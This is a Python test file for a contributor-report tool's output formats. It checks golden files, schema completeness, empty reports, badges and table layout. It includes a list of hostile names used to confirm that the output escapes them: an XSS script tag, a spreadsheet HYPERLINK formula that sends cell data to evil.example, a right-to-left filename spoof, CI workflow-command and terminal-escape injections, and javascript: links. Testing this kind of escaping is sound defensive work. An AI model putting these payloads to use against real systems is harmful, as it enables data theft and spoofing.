"""Every format of a contributor report: sign for sign, complete, and inert for any names whatsoever."""

from __future__ import annotations

import json
import re
from dataclasses import fields, is_dataclass, replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any, TypeVar, cast

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from commonscheck import __version__
from commonscheck.cli import cli
from commonscheck.cli.reporting import FORMATS as CHOICES
from commonscheck.cli.reporting import KINDS
from commonscheck.cli.reporting import STEPS as CHOSEN_STEPS
from commonscheck.formats.overview import (
    FORMATS,
    Format,
    all_contributors,
    badge,
    markdown,
    page,
    pie_chart,
    render,
    sheets,
    text,
    whole_json,
)
from commonscheck.formats.overview.mermaid import MOST_LINKS, drawing
from commonscheck.formats.overview.table import Table, to_the_right
from commonscheck.formats.overview.tables import tables
from commonscheck.formats.overview.whole_json import VERSION
from commonscheck.measures.giving import balances
from commonscheck.model.contribution import CONTRIBUTION_KINDS
from commonscheck.model.overview.giving import Chain, Link, Node
from commonscheck.model.overview.timeline import STEPS, Timeline
from commonscheck.model.overview.whole import Coverage, Overview
from commonscheck.model.report import Input
from tests.formats.checks import assert_visible, check_text
from tests.formats.test_laws import TEXT
from tests.measures.made import EARLIER, YEAR, evidence
from tests.reports.checks import CHECKS, FILES, SCHEMA, check_csv
from tests.reports.example import OVERVIEW

GOLDEN = Path(__file__).parent / "golden"
ENDINGS = {"text": "txt", "markdown": "md", "csv": "csv"}
T = TypeVar("T")

# mypy holds each module against the protocol here, since the table imports them by name.
MODULES: list[Format] = [all_contributors, badge, markdown, page, pie_chart, sheets, text, whole_json]
HOSTILE = (
    "<script>alert(1)</script>",
    '=HYPERLINK("https://evil.example?"&A1)',
    "\u202egnp.exe\u2066",
    "::set-output name=x::y",
    "##[group]x",
    '"]; click p0 "javascript:alert(1)"',
    "| [x](javascript:alert(1)) `code` <!-- end of commonscheck report -->",
    " \t@SUM(1)",
    "－1",  # noqa: RUF001 - a full-width minus is the point
    "\x1b]52;c;\x07\r\n::error::x",
    "\ud800 a@b.example",
)


def renamed(replaced: Any) -> Overview:  # noqa: ANN401 - a function from text to text
    """Replace every text in the example but for its steps, which are one of three words."""
    overview = with_texts(OVERVIEW, replaced)
    return replace(overview, asked=replace(overview.asked, by=OVERVIEW.asked.by))


def with_texts(value: T, replaced: Any) -> T:  # noqa: ANN401 - a function from text to text
    """Replace every text in a value of the model."""
    if isinstance(value, str):
        return cast("T", replaced(value))
    if isinstance(value, tuple):
        return cast("T", tuple(with_texts(item, replaced) for item in value))
    if is_dataclass(value) and not isinstance(value, type):
        changed = {one.name: with_texts(getattr(value, one.name), replaced) for one in fields(value)}
        return cast("T", type(value)(**changed))
    return value


OUTPUTS = {f"report.{ENDINGS.get(name, name)}": render(name, OVERVIEW).text for name in FORMATS}
PICTURE = re.compile(r"(?<=data:image/svg\+xml;base64,)[\w+/=]+")  # charts have golden files of their own


@pytest.mark.parametrize("name", OUTPUTS)
def test_output_is_as_expected(name: str, *, update_golden: bool) -> None:
    file = GOLDEN / name
    actual = OUTPUTS[name].replace(f'"{__version__}"', '"VERSION"').replace(f"check {__version__}", "check VERSION")
    actual = PICTURE.sub("…", actual)
    if update_golden:
        file.write_bytes(actual.encode())
    assert actual == file.read_bytes().decode()


def test_the_command_offers_every_format_step_and_kind() -> None:
    assert set(CHOICES) == set(FORMATS) == set(CHECKS)
    assert (STEPS, (*CONTRIBUTION_KINDS, "payment")) == (CHOSEN_STEPS, KINDS)


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("format_", FORMATS)
def test_hostile_names_are_inert(format_: str, name: str) -> None:
    rendered = render(format_, renamed(lambda _: name))
    CHECKS[format_](rendered.text)
    for file, content in rendered.files:
        FILES[Path(file).suffix](content)


@settings(max_examples=20, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=9))
def test_every_format_is_strict_and_visible_for_any_names(names: list[str]) -> None:
    left = iter(names * 400)
    overview = renamed(lambda _: next(left))
    for name in CHECKS.keys() - {"html"}:
        hold(name, overview)


@settings(max_examples=3, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=9))
def test_a_page_is_strict_and_visible_for_any_names(names: list[str]) -> None:
    left = iter(names * 400)
    hold("html", renamed(lambda _: next(left)))


def hold(name: str, overview: Overview) -> None:
    output = render(name, overview).text
    CHECKS[name](output)
    assert output.endswith("\n")
    assert output == render(name, overview).text


def test_color_changes_nothing_that_is_said() -> None:
    colored = render("text", renamed(lambda _: HOSTILE[-2]), color=True).text
    assert "\x1b[1m" in colored
    assert_visible(colored)


def test_addresses_are_shown_whole_only_among_people() -> None:
    person = replace(OVERVIEW.people[0], name="a@b.example", addresses=("ana@coop.example", "\x1b@x.example"))
    output = render("text", replace(OVERVIEW, people=(person,), target="x@y.example")).text
    assert "ana@coop.example, \\x1b@x.example" in output
    assert "a@b.example" not in output.replace("ana@", "")
    assert "x@y.example" not in output.replace("\\x1b@x.example", "")


def emptied() -> Overview:
    """Make a report of a commons to which nobody gave."""
    nothing = replace(OVERVIEW.absence.now, low=0, high=0, members=0, contributions=0, unmapped=0)
    return replace(
        OVERVIEW,
        coverage=Coverage(0, 0, 0, 0, ()),
        due=(),
        balances=balances(evidence(), YEAR, EARLIER),
        chain=Chain((), (), ()),
        timeline=Timeline(OVERVIEW.timeline.spans, (), (), (0,) * 5),
        absence=replace(OVERVIEW.absence, now=nothing),
        inequality=replace(OVERVIEW.inequality, points=(), gini=None, unmapped=0),
        dependence=replace(OVERVIEW.dependence, low=None, high=None),
        waivers=(),
        unproven=(),
        unmapped=(),
        unconfirmed=(),
        people=(),
        inputs=(Input("web", "target", "a" * 40),),
    )


@pytest.mark.parametrize("format_", FORMATS)
def test_a_commons_without_givers_has_a_report(format_: str) -> None:
    CHECKS[format_](render(format_, emptied()).text)


def test_what_is_empty_says_what_that_means() -> None:
    output = render("text", emptied()).text
    check_text(output)
    for words in ("Nothing is due.", "Nobody gave.", "Nothing was given.", "Everything could be read."):
        assert words in output
    assert "mermaid" not in render("markdown", emptied()).text


@pytest.mark.parametrize(
    ("changes", "message", "color"),
    [
        ({}, "1 overdue", "red"),
        ({"due": OVERVIEW.due[1:]}, "not everything is known", "lightgrey"),
        ({"due": (replace(OVERVIEW.due[1], waived=None),)}, "1 due", "yellow"),
    ],
)
def test_a_badge_says_the_worst_that_is_not_waived(changes: dict[str, Any], message: str, color: str) -> None:
    shown = json.loads(render("badge", replace(OVERVIEW, **changes)).text)
    assert (shown["message"], shown["color"]) == (message, color)


def test_a_badge_of_a_commons_in_order_says_how_much_was_given() -> None:
    shown = json.loads(render("badge", emptied()).text)
    assert (shown["message"], shown["color"]) == ("0 contributions, nothing due", "brightgreen")


def test_what_is_looked_at_alone_is_said() -> None:
    asked = replace(OVERVIEW.asked, parties=("acme",), kinds=("code",))
    alone = replace(OVERVIEW, asked=asked, dependence=replace(OVERVIEW.dependence, high=OVERVIEW.dependence.low))
    assert "Only acme, code." in " ".join(render("text", alone).text.split())
    assert "Only acme&#44; code&#46;" in render("markdown", alone).text
    assert "\n8.3 % of the contributions are the work of firms" in render("markdown", alone).text


def test_sheets_have_a_file_for_each_table() -> None:
    files = dict(render("csv", OVERVIEW).files)
    assert list(files) == [f"{table.name}.csv" for table in tables(OVERVIEW)]
    for sheet in files.values():
        check_csv(sheet)
    assert files["due.csv"].splitlines()[1].startswith("Mega Delivery,courier-commons,overdue,2026-06-30,")


def test_a_table_that_is_too_wide_for_text_says_so() -> None:
    many = tuple(replace(OVERVIEW.timeline.spans[0], label=f"2025-{number:02}") for number in range(40))
    party = replace(OVERVIEW.timeline.by_party[0], numbers=(1,) * 40)
    factors = tuple([OVERVIEW.absence.now] * 40)
    wide = replace(
        OVERVIEW,
        timeline=Timeline(many, (party,), (), (0,) * 40),
        absence=replace(OVERVIEW.absence, spans=factors),
        elephant=replace(OVERVIEW.elephant, spans=factors),
    )
    assert "42 columns do not fit here" in render("text", wide).text


def test_only_numbers_stand_to_the_right() -> None:
    table = Table("t", "T", ("a", "b", "c", "d"), ((1, None, Decimal(2), 3), (None, None, "unknown", Decimal(4))))
    assert [to_the_right(table, column) for column in range(4)] == [True, False, False, True]


def test_a_drawing_ends_before_nobody_can_read_it() -> None:
    parties = tuple(Node(f"p{number}", f"Party {number}") for number in range(MOST_LINKS + 5))
    chain = Chain(parties, (Node("web", ""),), tuple(Link(node.uid, "web", (), 1) for node in parties))
    lines = list(drawing(chain))
    assert sum("-.->" in line for line in lines) == MOST_LINKS
    assert lines[-1] == "5 more links are in the table."
    assert '  c0(["web"])' in lines


def _classes(value: object) -> set[type]:
    if isinstance(value, tuple):
        return {found for item in value for found in _classes(item)}
    if not is_dataclass(value) or isinstance(value, type):
        return set()
    return {type(value)} | {found for one in fields(value) for found in _classes(getattr(value, one.name))}


SCHEMA_TEXT: dict[str, Any] = json.loads(SCHEMA.read_text(encoding="utf-8"))
PARTS = {kind.__name__[0].lower() + kind.__name__[1:]: kind for kind in _classes(OVERVIEW) - {Overview}}


@pytest.mark.parametrize("name", sorted(PARTS))
def test_each_object_of_the_schema_has_the_fields_of_its_class(name: str) -> None:
    names = {field.name for field in fields(PARTS[name])}
    assert set(SCHEMA_TEXT["$defs"][name]["properties"]) == names == set(SCHEMA_TEXT["$defs"][name]["required"])


def test_the_schema_is_complete_described_and_versioned() -> None:
    assert set(SCHEMA_TEXT["$defs"]) == set(PARTS)
    names = {field.name for field in fields(Overview)} | {"commonscheck", "program"}
    assert set(SCHEMA_TEXT["properties"]) == names == set(SCHEMA_TEXT["required"])
    assert SCHEMA_TEXT["properties"]["commonscheck"]["const"] == VERSION
    objects = (SCHEMA_TEXT, *SCHEMA_TEXT["$defs"].values())
    assert all(part["description"] for one in objects for part in one["properties"].values())
    shown = CliRunner().invoke(cli, ["schema", "contributor-report"], standalone_mode=False)
    assert json.loads(shown.output) == SCHEMA_TEXT


def test_json_keeps_amounts_and_days_exact() -> None:
    found = json.loads(render("json", OVERVIEW).text)
    assert found["balances"][1]["given"][2] == {
        "kind": "organising",
        "unit": "hours",
        "certain": str(Decimal(40)),
        "possible": None,
    }
    assert found["as_of"] == date(2026, 11, 23).isoformat()


def test_people_go_by_the_names_of_parties_that_gave_nothing_certain() -> None:
    overview = replace(OVERVIEW, chain=Chain((), (), ()))
    [people] = [table for table in tables(overview) if table.name == "people"]
    names = {one.party: one.party_name for one in overview.balances}
    assert [row[1] for row in people.rows] == [names.get(one.party, "") for one in overview.people]
    assert {one.party for one in overview.people} & {*names}


def test_no_two_columns_of_a_table_go_by_one_name() -> None:
    heads = [table.heads for table in tables(OVERVIEW)]
    assert [one for one in heads if len({*one}) < len(one)] == []
